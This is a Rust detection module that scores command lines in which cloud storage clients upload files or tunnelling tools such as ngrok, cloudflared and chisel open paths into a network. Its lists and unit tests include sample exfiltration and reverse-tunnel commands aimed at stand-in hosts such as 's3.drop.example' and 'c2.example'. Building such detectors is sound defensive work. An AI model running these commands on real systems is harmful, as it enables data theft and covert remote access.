//! Command lines of clouds and of tunnels, which move data out as well as any FTP client.
//!
//! **Fires** on a client of object storage or of a file service that is told to send (`aws s3 cp file s3://…`, `gsutil`,
//! `gcloud storage`, `az storage blob upload`, AzCopy, s3cmd, s5cmd, MinIO's `mc`, b2, gdrive, dbxcli, croc, wormhole), and on a
//! program that opens a way through the border (ngrok, cloudflared, chisel, frp, bore, ligolo, localtunnel), by name, by its
//! author's name or by the shape of its line. One that fetches is not told: the remote must be the last place, not the first.
//!
//! **Severity** a send 1 (administrators and developers do it all day), a tunnel 2; to a foreign account or endpoint (`--endpoint-url`,
//! `--no-sign-request`, a SAS token on the line) 1; renamed, odd place, share, whole folders: as for other tools.
//!
//! **False alarms** deployment and backup scripts: the same line every night from one server stays low; developers who show a site
//! through ngrok: medium, and worth a question, since it is a door into the network.

use crate::command::{Act, Launch, host_of, is_share};

/// Programs by name for the subscription.
pub const PROGRAMS: [&str; 24] = [
    "aws.exe",
    "gsutil.exe",
    "gsutil.cmd",
    "gcloud.exe",
    "az.exe",
    "s3cmd.exe",
    "s5cmd.exe",
    "mc.exe",
    "b2.exe",
    "gdrive.exe",
    "dbxcli.exe",
    "wormhole.exe",
    "ngrok.exe",
    "cloudflared.exe",
    "chisel.exe",
    "frpc.exe",
    "bore.exe",
    "ligolo-agent.exe",
    "agent.exe",
    "lt.exe",
    "gost.exe",
    "plink.exe",
    "kopia.exe",
    "duplicacy.exe",
];

/// Parts of command lines by which the same are known when renamed, or when Python runs them.
pub const SHAPES: [&str; 12] = [
    " s3://",
    " gs://",
    "b2://",
    ".blob.core.windows.net",
    ".file.core.windows.net",
    " storage blob upload",
    "tunnel --url",
    "tunnel run",
    "--authtoken",
    " client http",
    "_portforward",
    "r:socks",
];

/// Programs that run others' scripts: the clouds' own command lines among them.
const HOSTS: [&str; 9] = ["python", "python3", "pythonw", "py", "node", "java", "cmd", "powershell", "pwsh"];

/// What a launch is worth telling for; none: nothing.
pub fn judge(launch: &Launch) -> Option<Act> {
    sends(launch).or_else(|| tunnels(launch)).map(|(act, known)| {
        act.odd(known && launch.is_renamed() && !launch.original.is_empty(), 2, "under another name")
            .odd(!known && !launch.is(&HOSTS), 1, "by the shape of the command line")
            .odd(launch.is_in_odd_place(), 1, "from an odd place")
            .odd(launch.words.iter().any(|word| is_share(word)), 1, "from a share")
    })
}

fn sends(launch: &Launch) -> Option<(Act, bool)> {
    let verb = || {
        launch.has_any(&["cp", "sync", "mv", "copy", "put", "rsync", "mirror", "upload", "upload-file", "upload-batch"])
    };
    let remote = |word: &str| {
        ["s3://", "gs://", "b2://"].iter().any(|scheme| word.starts_with(scheme))
            || word.contains(".blob.core.windows.net")
            || word.contains(".file.core.windows.net")
    };
    // Options and their values stand behind the places; the last place is where it goes to.
    let places: Vec<&String> = launch.words.iter().filter(|word| remote(word) || is_local_path(word)).collect();
    let to = places.last().filter(|last| remote(last));
    let (known, what, to) = if let (Some(to), true) = (to, verb() && places.len() >= 2) {
        let known = launch.is(&["aws", "gsutil", "gcloud", "azcopy", "s3cmd", "s5cmd", "b2", "az"]);
        (known, "a cloud's command line sends files to storage", to.as_str())
    } else if launch.line.contains(" storage blob upload") || launch.line.contains(" storage file upload") {
        (launch.is(&["az"]), "Azure's command line sends files to storage", "")
    } else if launch.is(&["mc", "s3cmd"]) && launch.has_any(&["mirror", "put"]) {
        (true, "a client of object storage sends files", "")
    } else if launch.is(&["gdrive"]) && launch.has_any(&["upload", "sync"])
        || launch.is(&["dbxcli"]) && launch.has("put")
    {
        (true, "a client of a file service sends files", "")
    } else if launch.is(&["wormhole"]) && launch.has("send") {
        (true, "files are sent to whoever knows a code", "")
    } else if launch.is(&["kopia", "duplicacy"]) && launch.has_any(&["snapshot", "backup"]) {
        (true, "a backup program copies to a repository", "")
    } else {
        return None;
    };
    let foreign = launch.line.contains("--endpoint-url")
        || launch.line.contains("--no-sign-request")
        || launch.line.contains("sig=");
    let whole = launch.has_any(&["--recursive", "sync", "mirror", "rsync", "upload-batch", "-r", "/s"]);
    let act = Act::new(what, 1)
        .odd(foreign, 1, "with the keys of an account that is on the line")
        .odd(whole && foreign, 1, "whole folders")
        .target(host_of(to).unwrap_or(to));
    Some((act, known))
}

fn is_local_path(word: &str) -> bool {
    let drive = word.as_bytes().get(1..3).is_some_and(|rest| rest == b":\\" || rest == b":/");
    drive
        || word.starts_with("\\\\")
        || word.starts_with(".\\")
        || word.starts_with("./")
        || word == "."
        || !word.starts_with('-')
            && word.rsplit_once('.').is_some_and(|(stem, ending)| !stem.is_empty() && (2..=4).contains(&ending.len()))
}

fn tunnels(launch: &Launch) -> Option<(Act, bool)> {
    let known = launch.is(&["ngrok", "cloudflared", "chisel", "frpc", "bore", "ligolo-agent", "lt", "gost"]);
    let remote = launch.words.iter().find_map(|word| host_of(word)).unwrap_or_default();
    let what = if launch.is(&["ngrok"]) && launch.has_any(&["http", "tcp", "tls", "start"])
        || launch.line.contains("ngrok") && launch.line.contains("--authtoken")
    {
        "ngrok opens a way into the network"
    } else if launch.is(&["cloudflared"]) && launch.has_any(&["tunnel", "access"])
        || launch.line.contains("tunnel --url")
        || launch.line.contains("tunnel run --token")
    {
        "cloudflared opens a way into the network"
    } else if launch.has("client") && launch.words.iter().any(|word| word.starts_with("r:")) {
        "chisel opens a way into the network"
    } else if launch.is(&["frpc"]) && launch.has_any(&["-c", "tcp", "http"])
        || launch.is(&["bore"]) && launch.has("local")
        || launch.is(&["lt"]) && launch.has("--port")
        || launch.is(&["gost"]) && launch.words.iter().any(|word| word.starts_with("-f=") || word == "-f")
        || launch.has("-connect") && launch.has("-ignore-cert")
    {
        "a tunnel is opened from inside"
    } else if launch.is(&["plink", "ssh"])
        && launch.words.iter().any(|word| word.starts_with("-r") && word.len() > 3 && word.contains(':'))
        && !remote.is_empty()
    {
        "SSH opens a way back into the network"
    } else {
        return None;
    };
    Some((Act::new(what, 2).target(remote), known))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(path: &str, line: &str) -> i64 {
        judge(&Launch::new(path, "", line)).map_or(-1, |act| act.points)
    }

    #[test]
    fn what_is_sent_is_told_and_what_is_fetched_is_not() {
        let aws = r"C:\Program Files\Amazon\AWSCLIV2\aws.exe";
        assert_eq!(points(aws, r"aws s3 cp D:\x.zip s3://bucket/x.zip"), 1);
        assert_eq!(points(aws, r"aws s3 sync \\fs1\hr s3://b --endpoint-url https://s3.drop.example"), 4);
        assert_eq!(points(aws, r"aws s3 cp s3://bucket/setup.exe C:\temp\setup.exe"), -1);
        assert_eq!(points(aws, "aws s3 ls s3://bucket"), -1);
        assert_eq!(
            points(
                r"C:\tools\azcopy.exe",
                r#"azcopy copy "https://x.blob.core.windows.net/c?sig=a" "D:\in" --recursive"#
            ),
            -1
        );
        assert!(
            points(
                r"C:\Users\Public\a.exe",
                r#"a.exe copy "D:\hr" "https://x.blob.core.windows.net/c?sv=1&sig=a" --recursive"#
            ) >= 5
        );
        assert_eq!(points(r"C:\g\gsutil.cmd", r"gsutil -m rsync -r D:\data gs://bucket"), 1);
        assert_eq!(points(r"C:\a\az.exe", r"az storage blob upload-batch -d c -s D:\hr --sas-token sig=x"), 3);
    }

    #[test]
    fn tunnels_are_told_also_when_renamed() {
        assert_eq!(points(r"C:\Tools\ngrok.exe", "ngrok http 3389"), 2);
        assert!(points(r"C:\Windows\Temp\svc.exe", "svc.exe client https://c2.example:443 R:socks") >= 4);
        assert!(points(r"C:\ProgramData\c.exe", "c.exe tunnel --url rdp://localhost:3389") >= 3);
        assert_eq!(points(r"C:\Program Files\x\agent.exe", "agent.exe --service"), -1);
        assert_eq!(points(r"C:\ngrok\ngrok.exe", "ngrok version"), -1);
    }
}
